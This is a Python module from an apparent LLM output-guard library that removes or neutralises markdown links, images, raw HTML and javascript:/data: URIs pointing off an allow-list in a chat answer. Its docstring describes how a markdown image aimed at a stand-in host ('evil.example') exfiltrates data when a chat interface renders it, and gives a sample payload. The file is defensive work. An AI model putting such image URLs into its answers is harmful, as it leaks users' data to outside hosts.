"""Unsafe rendering: links, images and HTML in an answer that a chat UI would render.

A markdown image pointing at a foreign domain is fetched by the user's browser the moment
the answer is shown, so `![x](https://evil.example/?q=<data>)` exfiltrates whatever the
model put in the URL. Links, autolinks and bare URLs to domains off the allow-list, raw
HTML (script, iframe, event-handler attributes) and `javascript:`/`data:` URIs are removed
or neutralised, and the answer goes on transformed.

Locating constructs uses patterns over the source (so the edits keep the rest of the text
byte-for-byte); the transformed text is then parsed with markdown-it-py (CommonMark, raw
HTML on), the parser a renderer would use, and if that parser still finds a disallowed
link, image or HTML, everything link- or tag-shaped is neutralised (fail closed).
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable
from dataclasses import dataclass
from urllib.parse import urlsplit

from markdown_it import MarkdownIt

from confide.guards.base import GuardContext
from confide.verdict import Action, Entity, Verdict

REASON = "output.unsafe_render"
IMAGE_PLACEHOLDER = "[image removed]"
LINK_PLACEHOLDER = "[link removed]"

_URL_IN_PARENS = (
    r"\(\s*(<[^<>\n]*>|(?:[^\s()]|\((?:[^\s()])*\))*)(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*\)"
)
_LABEL = r"\[((?:[^\[\]\\]|\\.|\[[^\[\]]*\])*)\]"
_PATTERNS: tuple[tuple[str, re.Pattern[str]], ...] = (
    # order = precedence when matches overlap
    ("html_block_tag", re.compile(
        r"<(script|style|iframe|object|embed|frame|frameset|applet|noscript|template|svg|math)"
        r"\b[^>]*>.*?(?:</\1\s*>|\Z)", re.IGNORECASE | re.DOTALL)),
    ("html_comment", re.compile(r"<!--.*?(?:-->|\Z)", re.DOTALL)),
    ("image", re.compile(r"!" + _LABEL + _URL_IN_PARENS)),
    ("link", re.compile(_LABEL + _URL_IN_PARENS)),
    ("ref_def", re.compile(r"^[ \t]{0,3}" + _LABEL + r":[ \t]*\n?[ \t]*(<[^<>\n]*>|\S+)[^\n]*$",
                           re.MULTILINE)),
    ("ref_image", re.compile(r"!" + _LABEL + r"(?:\[((?:[^\[\]\\]|\\.)*)\])?")),
    ("ref_link", re.compile(_LABEL + r"(?:\[((?:[^\[\]\\]|\\.)*)\])?")),
    ("autolink", re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^<>\s]*)>")),
    ("html_tag", re.compile(r"</?[A-Za-z][A-Za-z0-9\-]*(?:\s[^<>]*)?/?>|<![A-Za-z][^<>]*>")),
    ("bare_url", re.compile(
        r"(?:\b(?:https?|ftp|javascript|vbscript|data|file):|\bwww\.)[^\s<>\[\]()\"'`]*[^\s<>\[\]()\"'`.,;:!?]",
        re.IGNORECASE)),
)
_CTRL = re.compile(r"[\x00-\x20\x7f\u200b-\u200f\u2028-\u202e\u2060-\u2064\ufeff]")
_ANY_TAG = re.compile(r"<[^<>]*>")


@dataclass(frozen=True)
class _Edit:
    start: int
    end: int
    replacement: str
    kind: str


class RenderingGuard:
    """Neutralises links/images to non-allowed domains and raw HTML in an answer."""

    name = "rendering"
    version = "1.0.0"

    def __init__(self, allowed_domains: Iterable[str] = (), *,
                 allowed_schemes: Iterable[str] = ("http", "https"),
                 allow_relative: bool = True, action: Action | str = Action.TRANSFORM) -> None:
        self.allowed_domains = tuple(d.strip().lower().strip(".") for d in allowed_domains
                                     if d.strip())
        self.allowed_schemes = frozenset(s.lower() for s in allowed_schemes)
        self.allow_relative = allow_relative
        self.action = Action(action)
        self._md = MarkdownIt("commonmark")

    # -- URLs ---------------------------------------------------------------------------
    def url_allowed(self, url: str) -> bool:
        """True when `url` points at an allowed domain with an allowed scheme (or is relative)."""
        cleaned = _CTRL.sub("", html.unescape(url.strip().strip("<>"))).replace("\\", "/")
        try:
            parts = urlsplit(cleaned)
            host = (parts.hostname or "").rstrip(".")
        except ValueError:
            return False
        scheme = parts.scheme.lower()
        if not scheme and not parts.netloc:
            if cleaned.lower().startswith("www."):
                host = cleaned.split("/", 1)[0].lower()
                return self._domain_allowed(host)
            return self.allow_relative and ":" not in cleaned.split("/", 1)[0]
        if scheme and scheme not in self.allowed_schemes:
            return False
        return bool(host) and self._domain_allowed(host)

    def _domain_allowed(self, host: str) -> bool:
        try:
            host = host.encode("idna").decode("ascii").lower()
        except (UnicodeError, ValueError):
            host = host.lower()
        return any(host == d or host.endswith("." + d) for d in self.allowed_domains)

    # -- edits --------------------------------------------------------------------------
    def _edits(self, text: str) -> list[_Edit]:
        refs = self._ref_defs(text)
        taken: list[tuple[int, int]] = []
        edits: list[_Edit] = []
        for kind, pattern in _PATTERNS:
            for m in pattern.finditer(text):
                s, e = m.span()
                if s == e or any(s < te and ts < e for ts, te in taken):
                    continue
                if kind in ("ref_image", "ref_link") and _norm_label(
                        m.group(2) or m.group(1)) not in refs:
                    continue  # plain bracketed text, not a reference
                repl = self._replacement(kind, m, refs)
                taken.append((s, e))  # a construct that is fine stays untouched as a whole
                if repl is not None:
                    edits.append(_Edit(s, e, repl, kind))
        edits.sort(key=lambda x: x.start)
        return edits

    def _ref_defs(self, text: str) -> dict[str, str]:
        pattern = dict(_PATTERNS)["ref_def"]
        return {_norm_label(m.group(1)): m.group(2) for m in pattern.finditer(text)}

    def _replacement(self, kind: str, m: re.Match[str], refs: dict[str, str]) -> str | None:
        if kind in ("html_block_tag", "html_comment"):
            return ""
        if kind == "html_tag":
            return ""
        if kind == "image":
            return None if self.url_allowed(m.group(2)) else IMAGE_PLACEHOLDER
        if kind == "link":
            return None if self.url_allowed(m.group(2)) else _strip_tags(m.group(1))
        if kind == "ref_def":
            return None if self.url_allowed(m.group(2)) else ""
        if kind in ("ref_image", "ref_link"):
            label = m.group(2) if m.group(2) else m.group(1)
            url = refs.get(_norm_label(label))
            if url is None or self.url_allowed(url):
                return None
            return IMAGE_PLACEHOLDER if kind == "ref_image" else _strip_tags(m.group(1))
        if kind == "autolink":
            return None if self.url_allowed(m.group(1)) else LINK_PLACEHOLDER
        if kind == "bare_url":
            return None if self.url_allowed(m.group(0)) else LINK_PLACEHOLDER
        return None

    # -- verification -------------------------------------------------------------------
    def _renders_unsafe(self, text: str) -> bool:
        """Whether markdown-it still finds a disallowed link, image or raw HTML in `text`."""
        for token in self._md.parse(text):
            if token.type == "html_block":
                return True
            for child in token.children or ():
                if child.type == "html_inline":
                    return True
                if child.type in ("link_open", "image"):
                    target = child.attrGet("href") if child.type == "link_open" else \
                        child.attrGet("src")
                    if not self.url_allowed(str(target or "")):
                        return True
        return any(m for m in dict(_PATTERNS)["bare_url"].finditer(text)
                   if not self.url_allowed(m.group(0)))

    def check(self, text: str, ctx: GuardContext) -> Verdict:
        """Remove or neutralise what a renderer would fetch, link or execute off the allow-list."""
        edits = self._edits(text)
        detectors = {self.name: self.version}
        out = _apply(text, edits)
        fallback = self._renders_unsafe(out)
        if fallback:
            out = _neutralise(out)
        if not edits and not fallback:
            return Verdict(scores={self.name: 0.0}, detectors=detectors)
        entities = tuple(Entity(_entity_type(e.kind), e.start, e.end, 1.0, self.name)
                         for e in edits)
        kinds = sorted({_subcode(e.kind) for e in edits} | ({"html"} if fallback else set()))
        return Verdict(action=self.action, reasons=(REASON, *(f"{REASON}.{k}" for k in kinds)),
                       scores={self.name: 1.0}, entities=entities, text=out,
                       detectors=detectors)


def _norm_label(label: str) -> str:
    return " ".join(label.split()).casefold()


def _strip_tags(label: str) -> str:
    return _ANY_TAG.sub("", label)


def _apply(text: str, edits: list[_Edit]) -> str:
    parts: list[str] = []
    pos = 0
    for e in edits:
        parts.append(text[pos:e.start])
        parts.append(e.replacement)
        pos = e.end
    parts.append(text[pos:])
    return "".join(parts)


def _neutralise(text: str) -> str:
    """Last resort: drop anything URL- or tag-shaped and the markup that makes links."""
    text = _ANY_TAG.sub("", text)
    text = re.sub(r"[A-Za-z][A-Za-z0-9+.\-]*:\S*|\bwww\.\S+", LINK_PLACEHOLDER, text)
    return text.replace("<", "(").replace(">", ")").replace("](", "] (")


def _entity_type(kind: str) -> str:
    if "image" in kind:
        return "UNSAFE_IMAGE"
    if kind.startswith("html"):
        return "UNSAFE_HTML"
    return "UNSAFE_LINK"


def _subcode(kind: str) -> str:
    return {"image": "image", "ref_image": "image", "html_block_tag": "html", "html_tag": "html",
            "html_comment": "html"}.get(kind, "link")
